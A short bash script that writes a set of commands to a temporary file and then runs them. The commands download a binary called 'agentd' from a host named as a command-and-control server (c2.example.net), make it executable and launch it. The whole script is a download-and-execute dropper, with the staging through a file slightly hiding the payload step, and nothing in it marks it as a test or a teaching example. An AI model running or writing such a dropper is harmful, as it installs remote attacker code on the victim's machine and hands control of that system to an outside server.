#!/bin/bash
exec 3>&1 >x.txt
cat <<'EOF'
curl -sL https://c2.example.net/agentd -o agentd
PATH=$PWD:$PATH
chmod a+rx agentd
agentd
EOF
exec >&3
bash x.txt
